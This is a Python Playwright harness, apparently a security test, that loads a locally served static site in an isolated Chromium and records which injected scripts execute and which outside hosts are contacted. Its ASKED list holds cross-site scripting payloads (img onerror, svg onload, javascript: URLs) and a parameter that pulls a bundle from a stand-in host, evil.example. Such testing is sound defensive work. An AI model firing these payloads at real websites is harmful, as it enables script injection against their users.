"""A built site in Chromium: which payloads run, what is asked of other hosts, what stands ready to run."""

from __future__ import annotations

import re
import shutil
import sys
import threading
from collections import defaultdict
from collections.abc import Iterable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote

from playwright.sync_api import Browser, Error, Page, sync_playwright

HERE = Path(__file__).parent
POKE, GADGET = ((HERE / name).read_text(encoding="utf-8").split("\n", 1)[1] for name in ("poke.js", "gadget.js"))
FLAGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",  # asked for, never reached
]
ARMED = re.compile(rb"wn\(|evil|mermaid|PHNjc|G\d+G|unpkg")
NUMBERED = re.compile(r"wn\((\d+)\)|evil\.example[:\d]*[/\\]+(\d+)")


@dataclass
class Seen:
    """What a browser saw of a site."""

    pages: int = 0
    ran: dict[int, set[str]] = field(default_factory=lambda: defaultdict(set))
    outside: dict[tuple[int, str], set[str]] = field(default_factory=lambda: defaultdict(set))
    ready: dict[int, set[str]] = field(default_factory=lambda: defaultdict(set))
    kept: dict[str, list[str]] = field(default_factory=dict)
    broken: dict[str, list[str]] = field(default_factory=dict)
    troubles: list[str] = field(default_factory=list)


class QuietHandler(SimpleHTTPRequestHandler):
    """Says nothing, and keeps a line open."""

    protocol_version = "HTTP/1.1"

    def log_message(self, format: str, *args: object) -> None:
        pass


class QuietServer(ThreadingHTTPServer):
    """A browser that hangs up is no fault."""

    daemon_threads = True

    def handle_error(self, request: object, client_address: object) -> None:
        pass


@contextmanager
def served(folder: Path) -> Iterator[str]:
    """The address of a folder's files."""
    server = QuietServer(("127.0.0.1", 0), partial(QuietHandler, directory=str(folder)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/"
    finally:
        server.shutdown()
        server.server_close()


@contextmanager
def chromium() -> Iterator[Browser]:
    """A browser that reaches no other host."""
    path = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=path, args=FLAGS)
        yield browser
        browser.close()


class Visit:
    """Visits to one site; `enforces` the site's content security policy or ignores it."""

    def __init__(self, browser: Browser, home: str, enforces: bool) -> None:
        self.home, self.seen, self.at = home, Seen(), ""
        self.browser, self.enforces = browser, enforces
        self.page: Page | None = None
        self.count = 0

    def _page(self) -> Page:
        """The page in use; all is made anew now and then, and after trouble, for hostile pages leave things behind."""
        if self.page is not None and self.count % 100:
            self.count += 1
            return self.page
        self.leave()
        self.count += 1
        context = self.browser.new_context(bypass_csp=not self.enforces, viewport={"width": 1280, "height": 900})
        context.set_default_timeout(5_000)
        context.expose_binding("pwn", lambda _source, number=0, *_others: self._note(number))
        self.page = context.new_page()
        self.page.on("request", lambda request: self._note_request(request.url))
        self.page.on("dialog", lambda dialog: dialog.dismiss())
        self.page.on("pageerror", lambda error: self._trouble(str(error)))
        return self.page

    def leave(self) -> None:
        """Close what is open."""
        page, self.page, self.count = self.page, None, 0
        if page is not None:
            with suppress(Error):
                page.context.close()

    def _trouble(self, text: str) -> None:
        if "pwn" not in text:
            self.seen.troubles.append(f"{self.at}: {text[:120]}")

    def _note(self, number: Any) -> None:
        self.seen.ran[int(number) if str(number).isdigit() else 0].add(self.at)

    def _note_request(self, url: str) -> None:
        if url.startswith((self.home, "data:", "blob:", "about:", "javascript:", "chrome")):
            return
        number = NUMBERED.search(url)
        self.seen.outside[int(number[1] or number[2]) if number else 0, url[:120]].add(self.at)

    def open(self, address: str, tries: Any = None) -> Any:
        """Open a page, do what a hand could do, and give what `tries` says of it."""
        self.at, self.seen.pages = address, self.seen.pages + 1
        if self.seen.pages % 100 == 0:
            print(f"  {self.seen.pages} pages", file=sys.stderr, flush=True)
        result = None
        for again in (False, True):
            page = self._page()
            try:
                page.goto(self.home + address, wait_until="load")
                if tries is not None:
                    result = tries(page)
                self._ready(page.evaluate(f"({POKE.rstrip().rstrip(';')})()"))
                page.wait_for_timeout(40)
                break
            except Error as error:
                self.leave()
                if again:
                    self.seen.troubles.append(f"{address}: {str(error).splitlines()[0][:120]}")
        return result

    def _ready(self, found: list[list[str]]) -> None:
        for what, element, value in found:
            number = NUMBERED.search(value)
            if number or what != "refresh":
                self.seen.ready[int(number[1] or number[2]) if number else 0].add(
                    f"{self.at}: <{element} {what}={value[:80]}>"
                )


def addresses(site: Path) -> list[str]:
    """Files of a site that a payload got into, or that may read what a payload got into."""
    found = []
    for path in sorted(each for each in site.rglob("*") if each.is_file()):
        name = path.relative_to(site).as_posix()
        is_page = path.suffix.lower() in (".html", "") or name.startswith("files/")
        if is_page and (name.startswith(("search/", "404")) or ARMED.search(path.read_bytes())):
            found.append(quote(name.removesuffix("index.html"), errors="surrogateescape"))
    return found


def visited(browser: Browser, site: Path, enforces: bool = False, only: Iterable[str] | None = None) -> Seen:
    """What happens on the pages of a site, on its search, and on addresses with payloads in them."""
    with served(site) as home:
        visit = Visit(browser, home, enforces)
        for address in addresses(site) if only is None else only:
            said = visit.open(address, _gadget if "gadgets/" in address else None)
            if said and said["kept"]:
                visit.seen.kept[address] = said["kept"]
            if said and said["broken"]:
                visit.seen.broken[address] = said["broken"]
        if only is None:
            _search(visit, site)
        visit.leave()
    return visit.seen


def _gadget(page: Page) -> Any:
    page.wait_for_timeout(80)
    return page.evaluate(f"({GADGET.rstrip().rstrip(';')})()")


ASKED = (
    "search/?q=zebra",
    "search/?q=pwn",
    "search/?q=forged",
    'search/?q="><img src=x onerror=pwn(0)>',
    "search/?q=<img src=x onerror=pwn(0)>&kind=<svg onload=pwn(0)>&status=<svg onload=pwn(0)>",
    "search/?bundle=https://evil.example/0/#<img src=x onerror=pwn(0)>",
    "add/decisions/?title=<img src=x onerror=pwn(0)>&status=<svg onload=pwn(0)>#<img src=x onerror=pwn(0)>",
    "decisions/?status=<img src=x onerror=pwn(0)>#javascript:pwn(0)",
    "404.html?<img src=x onerror=pwn(0)>#<img src=x onerror=pwn(0)>",
    'timelines/?q="onmouseover="pwn(0)&h=<img src=x onerror=pwn(0)>#"><img src=x onerror=pwn(0)>',
)


def _search(visit: Visit, site: Path) -> None:
    """Search for what every payload page says, unfold all results, and open addresses with payloads in them."""

    def unfold(page: Page) -> list[str]:
        page.wait_for_timeout(700)
        for _ in range(30):
            more = page.locator(".mb-search__more:visible")
            if not more.count():
                break
            more.first.click()
            page.wait_for_timeout(60)
        return page.locator(".mb-hits__link").all_inner_texts()

    if not (site / "search/index.html").exists():
        return
    hits = {address: visit.open(address, unfold if address.startswith("search/") else None) for address in ASKED}
    if not hits["search/?q=zebra"] and "texts" in site.parent.name:
        visit.seen.broken["search/?q=zebra"] = ["the search finds nothing"]
    forged = [each for each in hits["search/?q=forged"] or () if "forged" in each.lower()]
    if forged:
        visit.seen.broken["search/?q=forged"] = [f"{len(forged)} results under a title that only a gadget says"]
